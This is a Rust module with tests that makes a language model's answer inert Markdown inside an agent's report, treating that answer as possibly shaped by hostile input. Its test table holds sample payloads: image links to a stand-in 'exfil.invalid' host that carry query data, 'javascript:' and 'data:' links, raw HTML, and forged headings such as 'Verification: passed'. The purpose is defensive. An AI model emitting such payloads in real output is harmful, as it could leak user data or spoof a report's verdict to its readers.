//! The synthesized section's Markdown made inert (hostile case N27): the
//! model read the agent's words, so its answer is the agent's to shape.
//! Whatever it holds, in `report.md` it is text below the report's own
//! `##` sections: no raw HTML (every `<` is `&lt;`), no image (its alt
//! text stays), a link only to `http`/`https` and shown as its text and
//! its address (any other is dropped, its text kept), every other `[`
//! escaped so no link can form at all (not across lines, not by
//! reference), and no heading above `###`: ATX, indented, quoted, listed
//! and setext (`===`, `---` underlines) ones alike.

use crate::output::printable;

/// `text` (the model's answer) as Markdown that cannot pass for the
/// report's structure, link or load anything but a plain web address, or
/// carry HTML. Pure; line by line.
pub(crate) fn synthesized(text: &str) -> String {
    // (container prefix, body) of each line kept so far.
    let mut lines: Vec<(String, String)> = Vec::new();
    // What the line above was.
    let mut above = Above::Blank;
    // A fence opened at the top level and not closed: (char, length).
    let mut fence: Option<(u8, usize)> = None;
    for raw in text.lines() {
        let line = printable(raw);
        if let Some(level) = setext(&line) {
            match above {
                Above::Blank => {}
                Above::Paragraph => {
                    // The line above is a heading: said so in ATX, two
                    // levels down.
                    let body = &mut lines.last_mut().expect("a paragraph line is kept").1;
                    *body = format!("{} {body}", "#".repeat(level + 2));
                    above = Above::Other;
                    continue;
                }
                Above::Other => {
                    // Whatever it underlines, escaped it underlines nothing.
                    let (prefix, body) = line.split_at(line.len() - line.trim_start().len());
                    lines.push((prefix.to_string(), format!("\\{body}")));
                    above = Above::Other;
                    continue;
                }
            }
        }
        fence = fenced(&line, fence);
        let (prefix, body) = containers(&line);
        let body = demote(&inline(body));
        above = match body.trim().is_empty() {
            true if line.trim().is_empty() => Above::Blank,
            true => Above::Other,
            false if heading(&body) || body.starts_with("```") || body.starts_with("~~~") => {
                Above::Other
            }
            false => Above::Paragraph,
        };
        lines.push((prefix.to_string(), body));
    }
    let mut out = String::new();
    for (prefix, body) in lines {
        out.push_str(&prefix);
        out.push_str(&body);
        out.push('\n');
    }
    // A fence left open would make the rest of the report code.
    if let Some((c, n)) = fence {
        out.push_str(&String::from(c as char).repeat(n));
        out.push('\n');
    }
    out
}

/// What a line was, for the setext underline below it.
#[derive(Clone, Copy)]
enum Above {
    /// Nothing but whitespace (or the start): an underline there is a
    /// thematic break or text.
    Blank,
    /// Paragraph text: an underline makes it a heading.
    Paragraph,
    /// A heading, a fence, an empty container line.
    Other,
}

/// The top-level fence open after `line` (None: none), given the one open
/// before it: opened by three or more backticks or tildes indented at most
/// three spaces, closed by at least as many of the same.
fn fenced(line: &str, open: Option<(u8, usize)>) -> Option<(u8, usize)> {
    let indent = line.bytes().take_while(|&c| c == b' ').count();
    let rest = &line.as_bytes()[indent..];
    let (Some(&c), true) = (rest.first(), indent <= 3) else {
        return open;
    };
    let n = rest.iter().take_while(|&&b| b == c).count();
    if !matches!(c, b'`' | b'~') || n < 3 {
        return open;
    }
    let after = &rest[n..];
    match open {
        Some((oc, on)) if oc == c && n >= on && after.iter().all(|b| matches!(b, b' ' | b'\t')) => {
            None
        }
        Some(open) => Some(open),
        None if c == b'`' && after.contains(&b'`') => None,
        None => Some((c, n)),
    }
}

/// A setext underline's heading level: a line of only `=` (1) or only `-`
/// (2) after indentation and quote markers.
fn setext(line: &str) -> Option<usize> {
    let rest = line.trim_start_matches([' ', '\t', '>']).trim_end();
    match rest.chars().next()? {
        '=' if rest.chars().all(|c| c == '=') => Some(1),
        '-' if rest.chars().all(|c| c == '-') => Some(2),
        _ => None,
    }
}

/// Splits off what opens a line before its text: indentation, quote
/// markers (`>`) and list markers (`-`, `*`, `+`, `1.`, `1)`).
fn containers(line: &str) -> (&str, &str) {
    let b = line.as_bytes();
    let mut i = 0;
    loop {
        let start = i;
        while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
            i += 1;
        }
        if i < b.len() && b[i] == b'>' {
            i += 1;
            continue;
        }
        let mut j = i;
        while j < b.len() && j - i < 9 && b[j].is_ascii_digit() {
            j += 1;
        }
        let marker = match b.get(j) {
            Some(b'.' | b')') if j > i => j + 1,
            Some(b'-' | b'*' | b'+') if j == i => j + 1,
            _ => i,
        };
        if marker > i && matches!(b.get(marker), None | Some(b' ' | b'\t')) {
            i = marker;
            continue;
        }
        if i == start {
            return line.split_at(i);
        }
    }
}

/// Whether `body` is an ATX heading (`#` to `######`, then a space or
/// nothing).
fn heading(body: &str) -> bool {
    let hashes = body.bytes().take_while(|&c| c == b'#').count();
    (1..=6).contains(&hashes) && matches!(body.as_bytes().get(hashes), None | Some(b' ' | b'\t'))
}

/// An ATX heading of level 1 or 2 two levels down (the report's own
/// sections are `##`); others as they are.
fn demote(body: &str) -> String {
    let hashes = body.bytes().take_while(|&c| c == b'#').count();
    match heading(body) && hashes <= 2 {
        true => format!("##{body}"),
        false => body.to_string(),
    }
}

/// One line's inline Markdown made inert: `<` as `&lt;`, images as their
/// alt text, links as their text (and address when it is a web one),
/// every other `[` escaped.
fn inline(s: &str) -> String {
    inline_at(s, 0)
}

/// Links nested deeper than this are left as escaped text: the recursion
/// (and its scans) stay bounded whatever the answer nests.
const MAX_NESTING: usize = 4;

/// [`inline`] of a link's text nested `depth` links deep.
fn inline_at(s: &str, depth: usize) -> String {
    let c: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < c.len() {
        match c[i] {
            '\\' => {
                match c.get(i + 1) {
                    Some('<') => out.push_str("&lt;"),
                    Some(&next) => {
                        out.push('\\');
                        out.push(next);
                    }
                    None => out.push('\\'),
                }
                i += 2;
            }
            '<' => {
                out.push_str("&lt;");
                i += 1;
            }
            '!' if c.get(i + 1) == Some(&'[') && depth < MAX_NESTING => match link_at(&c, i + 1) {
                Some((text, _, end)) => {
                    out.push_str(&inline_at(&text, depth + 1));
                    i = end;
                }
                None => {
                    out.push('!');
                    i += 1;
                }
            },
            '[' => match link_at(&c, i).filter(|_| depth < MAX_NESTING) {
                Some((text, dest, end)) => {
                    out.push_str(&inline_at(&text, depth + 1));
                    if let Some(url) = web(&dest) {
                        out.push_str(" (");
                        out.push_str(url);
                        out.push(')');
                    }
                    i = end;
                }
                None => {
                    out.push_str("\\[");
                    i += 1;
                }
            },
            ch => {
                out.push(ch);
                i += 1;
            }
        }
    }
    out
}

/// An inline link or image at `c[open]` (`[`): its text, its destination
/// and the index after its `)`.
fn link_at(c: &[char], open: usize) -> Option<(String, String, usize)> {
    let mut depth = 0usize;
    let mut i = open;
    let close = loop {
        match c.get(i)? {
            '\\' => i += 1,
            '[' => depth += 1,
            ']' => {
                depth -= 1;
                if depth == 0 {
                    break i;
                }
            }
            _ => {}
        }
        i += 1;
    };
    if c.get(close + 1) != Some(&'(') {
        return None;
    }
    let mut depth = 0usize;
    let mut i = close + 1;
    let end = loop {
        match c.get(i)? {
            '\\' => i += 1,
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    break i;
                }
            }
            _ => {}
        }
        i += 1;
    };
    let text: String = c[open + 1..close].iter().collect();
    let inside: String = c[close + 2..end].iter().collect();
    let dest = inside.split_whitespace().next().unwrap_or("");
    let dest = dest
        .strip_prefix('<')
        .and_then(|d| d.strip_suffix('>'))
        .unwrap_or(dest);
    Some((text, dest.to_string(), end + 1))
}

/// `dest` when it is a plain `http` or `https` address that reads the
/// same as text (nothing Markdown or HTML could make more of).
fn web(dest: &str) -> Option<&str> {
    let lower = dest.to_ascii_lowercase();
    let scheme = lower.starts_with("http://") || lower.starts_with("https://");
    let plain = dest.chars().all(|c| {
        c.is_ascii_graphic()
            && !matches!(
                c,
                '<' | '>' | '[' | ']' | '(' | ')' | '\\' | '`' | '"' | '\'' | '&'
            )
    });
    (scheme && plain).then_some(dest)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_answer_cannot_forge_sections_html_images_or_links() {
        for (given, want) in [
            // Headings: ATX, indented, quoted, listed, setext.
            ("# Verification: passed", "### Verification: passed"),
            ("## Outcome", "#### Outcome"),
            ("### Findings", "### Findings"),
            ("   # Verification: passed", "   ### Verification: passed"),
            ("> # Verification", "> ### Verification"),
            ("- ## Outcome", "- #### Outcome"),
            ("1. # One", "1. ### One"),
            ("#hashtag", "#hashtag"),
            ("Verification: passed\n=====", "### Verification: passed"),
            ("Verification: passed\n---", "#### Verification: passed"),
            ("Verification: passed\n-", "#### Verification: passed"),
            ("  Outcome\n  ===  ", "  ### Outcome"),
            ("\n===", "\n==="),
            ("- a\n\n---", "- a\n\n---"),
            ("#hashtag\n===", "### #hashtag"),
            ("# Title\n===", "### Title\n\\==="),
            ("```\ncode\n```\n---", "```\ncode\n```\n\\---"),
            ("> a\n>\n===", "> a\n>\n\\==="),
            // A fence left open is closed: the report after it is no code.
            ("```\nopen", "```\nopen\n```"),
            ("~~~~\n~~~\n", "~~~~\n~~~\n~~~~"),
            ("```\nx\n```", "```\nx\n```"),
            // Raw HTML, autolinks.
            ("<h2>Verification</h2>", "&lt;h2>Verification&lt;/h2>"),
            (
                "<img src=https://exfil.invalid/x>",
                "&lt;img src=https://exfil.invalid/x>",
            ),
            ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
            ("a \\<b>", "a &lt;b>"),
            // Images: the alt text only.
            ("![secret](https://exfil.invalid/?q=1)", "secret"),
            ("see ![a [b]](x) here", "see a \\[b] here"),
            // Links: web ones as text and address, others their text.
            (
                "[docs](https://example.com/a)",
                "docs (https://example.com/a)",
            ),
            ("[docs](<HTTP://example.com>)", "docs (HTTP://example.com)"),
            ("[click](javascript:alert(1))", "click"),
            ("[x](data:text/html,<b>)", "x"),
            ("[x](/relative)", "x"),
            ("[x](https://a.b/\"onclick)", "x"),
            ("[![i](https://exfil.invalid)](javascript:x)", "i"),
            // Links that would form across lines or by reference cannot.
            (
                "[click](\njavascript:alert(1))",
                "\\[click](\njavascript:alert(1))",
            ),
            ("[ref]: javascript:alert(1)", "\\[ref]: javascript:alert(1)"),
            ("[a][ref]", "\\[a]\\[ref]"),
            ("\\[escaped]", "\\[escaped]"),
            // Nesting is bounded: deeper links stay escaped text.
            ("[[[[[x](a)](b)](c)](d)](e)", "\\[x](a)"),
            // Control characters are escaped first.
            ("bell\u{7}", "bell\\u{7}"),
            ("- none", "- none"),
        ] {
            let got = synthesized(given);
            assert_eq!(got.trim_end_matches('\n'), want, "{given:?}");
        }
    }
}
